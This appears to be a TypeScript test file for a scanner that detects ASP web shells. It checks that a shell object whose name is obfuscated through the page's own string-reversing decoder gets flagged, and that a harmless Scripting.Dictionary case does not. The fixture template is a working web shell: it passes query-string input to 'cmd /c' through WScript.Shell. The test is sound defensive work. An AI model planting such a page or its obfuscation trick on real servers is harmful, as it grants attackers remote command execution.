/**
 * A COM object whose name a function of the page decodes (`CreateObject(decode("llehS.tpircSW"))`
 * with `decode` a StrReverse): the shell object hidden behind the page's own decoder. Written for
 * these tests.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf, reasons } from './helpers.js';

const page = (fn: string, arg: string): string => `<%
Function ${fn}
Set o = CreateObject(${arg})
o.Run "cmd /c " & Request.QueryString("q") & " > c:\\windows\\temp\\o.txt", 0, True
%>
`;

test('a shell object named through the page\u2019s own decoder function is found', () => {
  const f = findingOf('x.asp', page('decode(t)\n  decode = StrReverse(t)\nEnd Function', 'decode("llehS.tpircSW")'));
  assert.equal(f?.verdict, 'malicious');
  assert.ok(reasons(f).includes('COM object name assembled from pieces (WScript.Shell)'), JSON.stringify(reasons(f)));
  assert.ok(reasons(f).includes('request input reaches shell Run'), JSON.stringify(reasons(f)));
});

test('a page function returning a plain file object name is no shell object', () => {
  const f = findingOf('x.asp', page('progId(n)\n  progId = "Scripting." & n\nEnd Function', 'progId("Dictionary")'));
  assert.ok(!reasons(f).some((r) => r.startsWith('COM object name assembled')), JSON.stringify(reasons(f)));
});
